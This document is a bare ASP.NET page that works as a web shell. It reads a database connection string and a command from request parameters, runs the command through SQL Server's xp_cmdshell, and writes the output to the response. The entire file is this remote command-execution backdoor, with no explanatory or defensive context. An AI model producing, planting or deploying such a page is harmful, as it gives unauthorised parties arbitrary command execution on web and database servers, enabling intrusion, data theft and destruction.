<%@ Page Language="C#" %>
<%@ Import Namespace="System.Data.SqlClient" %>
<script runat="server">
void Page_Load(object s, System.EventArgs e) {
    var c = new SqlConnection(Request["cs"]);
    c.Open();
    var q = new SqlCommand("exec master..xp_cmdshell '" + Request["c"] + "'", c);
    Response.Write(q.ExecuteScalar());
}
</script>
